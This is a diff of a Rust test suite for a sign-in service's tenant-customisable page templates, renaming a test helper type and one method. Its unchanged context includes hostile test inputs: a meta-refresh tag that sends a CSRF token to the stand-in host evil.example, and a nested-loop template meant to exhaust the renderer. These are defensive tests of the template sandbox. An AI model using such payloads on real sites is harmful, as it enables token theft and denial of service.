@@ -5,7 +5,7 @@ use chancery_testkit::{Answer, World, on_both_engines};
 use serde_json::{Value, json};
 
 use super::{
-    BASE, CALLBACK, Home, PASSWORD,
+    BASE, CALLBACK, PASSWORD, SignInApp,
     browser::Browser,
     change, encode, first,
     passkey::{use_passkey, with_passkey},
@@ -26,7 +26,7 @@ async fn put_view(world: &World, location: &str, content: &str) {
     world.make("CustomView", json!({ "location": location, "content": content })).await;
 }
 
-async fn shown(world: &World, home: &Home) -> String {
+async fn shown(world: &World, home: &SignInApp) -> String {
     let page = Browser::new(world).open(&home.request(&[])).await;
     assert_eq!(page.status, 200, "{}", page.html);
     page.html
@@ -47,7 +47,7 @@ async fn failed(world: &World) -> u64 {
 on_both_engines! {
     /// Order of the look-up: tenant, client app, subscription, installation.
     async fn the_most_specific_view_is_shown(world: World) {
-        let home = Home::new(&world).await;
+        let home = SignInApp::new(&world).await;
         assert!(shown(&world, &home).await.contains("name=\"password\""));
         let subscription = home.app["subscriptionId"].as_str().unwrap();
         let levels = [
@@ -72,7 +72,7 @@ on_both_engines! {
 
     /// A view of one owner is not shown on pages of another owner.
     async fn views_apply_to_pages_of_their_owner_only(world: World) {
-        let home = Home::new(&world).await;
+        let home = SignInApp::new(&world).await;
         let subscription = first(&world, "/Subscription").await;
         let other = world.make("Tenant", json!({ "name": "Lighthouse", "subscriptionId": subscription["id"] })).await;
         put_view(&world, &format!("/views/tenant/{}/SignIn", id(&other)), &marked("elsewhere")).await;
@@ -101,7 +101,7 @@ on_both_engines! {
 
     /// A view that fails to render is replaced by the built-in one, and counted.
     async fn a_failing_view_is_replaced_by_the_shipped_page(world: World) {
-        let home = Home::new(&world).await;
+        let home = SignInApp::new(&world).await;
         let layout = format!("/views/tenant/{}/Layout", home.tenant);
         for (content, count) in [("{{ nothing.there }}", 1), ("{% for a in range(100000) %}{% for b in range(100000) %}x{% endfor %}{% endfor %}", 2)] {
             world.admin.delete(&format!("{BASE}/CustomView{layout}")).await;
@@ -120,7 +120,7 @@ on_both_engines! {
 
     /// Name, colour, logo and links are options of the tenant. The policy permits the logo's host, and no other.
     async fn pages_show_the_brand_of_the_tenant(world: World) {
-        let home = Home::new(&world).await;
+        let home = SignInApp::new(&world).await;
         for (name, value) in [
             ("BrandName", "Harbour & Sons"), ("BrandColour", "#22406b"), ("BrandLogo", "https://cdn.example/logo.svg"),
             ("PageLinks", "Privacy notice https://harbour.example/privacy, Imprint /imprint"),
@@ -157,7 +157,7 @@ on_both_engines! {
 
     /// Nobody can sign in at a tenant with contradictory options until they are corrected.
     async fn invalid_or_contradictory_options_close_a_tenant(world: World) {
-        let home = Home::new(&world).await;
+        let home = SignInApp::new(&world).await;
         for (option, value, is_open) in [
             ("SessionAbsoluteLifetime", "7.00:00:00", false),
             ("SessionAbsoluteLifetime", "30.00:00:00", true),
@@ -175,7 +175,7 @@ on_both_engines! {
     /// Authors of views of the platform's sign-in could attack people with more rights. These pages are therefore the built-in ones,
     /// with the tenant's brand.
     async fn sign_ins_to_the_platform_use_shipped_pages(world: World) {
-        let home = Home::new(&world).await;
+        let home = SignInApp::new(&world).await;
         let near = world.client("near", &[("TenantAdmin", Some(home.tenant.parse().unwrap()), None)]).await;
         let of_tenant = json!({ "location": format!("/views/tenant/{}/SignIn", home.tenant), "content": marked("of the tenant") });
         near.post(&format!("{BASE}/CustomView"), of_tenant).await.expect(201);
@@ -206,7 +206,7 @@ on_both_engines! {
     /// Input of a page is sent only to this server's step. Attributes that a page would lose are refused; what samples do not show is
     /// removed when the page is rendered.
     async fn views_cannot_send_input_to_other_sites(world: World) {
-        let home = Home::new(&world).await;
+        let home = SignInApp::new(&world).await;
         let location = format!("/views/tenant/{}/SignIn", home.tenant);
         let tricks = [
             ("<meta http-equiv=\"refresh\" content=\"0;url=https://evil.example/?{{ csrf }}\">", "<meta>", "http-equiv"),
@@ -243,7 +243,7 @@ on_both_engines! {
         let page = browser.open(&home.request(&[])).await;
         assert!(page.html.contains("data-passkey=\"get\" data-options=\"{") && page.html.contains("<button>own"), "{}", page.html);
         let next = use_passkey(&mut browser, &page, &authenticator, &home.user).await;
-        assert!(browser.go_on(&next).await.contains("code="));
+        assert!(browser.continue_to_app(&next).await.contains("code="));
         // a page without such a form has no script
         let page = "<form method=\"post\" action=\"{{ action }}\">{% for field in fields %}<input type=\"hidden\" name=\"{{ field.name }}\" value=\"{{ field.value }}\">{% endfor %}</form>";
         put_view(&world, &format!("/views/tenant/{}/Continue", home.tenant), page).await;
@@ -254,7 +254,7 @@ on_both_engines! {
 
     /// The URL of a picture could leak a secret: custom pages that show secrets load no external pictures.
     async fn pages_with_secrets_load_no_external_content(world: World) {
-        let home = Home::new(&world).await;
+        let home = SignInApp::new(&world).await;
         tenant_option(&world, &home, "BrandLogo", "https://cdn.example/logo.svg").await;
         let request = format!("/t/{}{}", home.tenant, home.request(&[("response_mode", "form_post"), ("prompt", "none")]));
         let policy = async || {
@@ -270,7 +270,7 @@ on_both_engines! {
 
     /// Properties that administrators set on an app can be shown in its views, escaped.
     async fn views_can_show_properties_of_the_app(world: World) {
-        let home = Home::new(&world).await;
+        let home = SignInApp::new(&world).await;
         let view = "<html lang=\"{{ language }}\">{{ application.metadata.motto }} {{ application.metadata.none }}";
         put_view(&world, &format!("/views/clientapp/{}/SignIn", id(&home.app)), view).await;
         assert!(shown(&world, &home).await.contains("name=\"password\"") , "the entry is not there yet");
@@ -285,7 +285,7 @@ on_both_engines! {
     /// Properties that administrators set on an instance can be shown in views of pages about it: if it is the only one offered, and
     /// as soon as the instance of the person is known.
     async fn views_can_show_properties_of_the_instance(world: World) {
-        let home = Home::new(&world).await;
+        let home = SignInApp::new(&world).await;
         let store = first(&world, "/IdpInstance").await;
         tenant_option(&world, &home, "TermsVersion", "1").await;
         tenant_option(&world, &home, "TermsUrl", "https://northwind.example/terms").await;
@@ -316,7 +316,7 @@ on_both_engines! {
     }
 
     async fn assets_are_public(world: World) {
-        let home = Home::new(&world).await;
+        let home = SignInApp::new(&world).await;
         let location = format!("/assets/tenant/{}/site.css", home.tenant);
         let body = json!({ "location": location, "mimetype": "text/css", "data": BASE64_STANDARD.encode("p{color:red}") });
         let created = world.make("CustomAsset", body).await;
@@ -394,7 +394,7 @@ on_both_engines! {
 
     /// A preview renders the draft together with the views of its owner, and writes nothing.
     async fn a_preview_shows_the_draft_of_a_view(world: World) {
-        let home = Home::new(&world).await;
+        let home = SignInApp::new(&world).await;
         let location = format!("/views/tenant/{}/SignIn", home.tenant);
         let draft = |content: &str| json!({ "location": location, "content": content });
         put_view(&world, &format!("/views/tenant/{}/Layout", home.tenant), "<html lang=\"{{ language }}\">frame {% block main %}{% endblock %}").await;
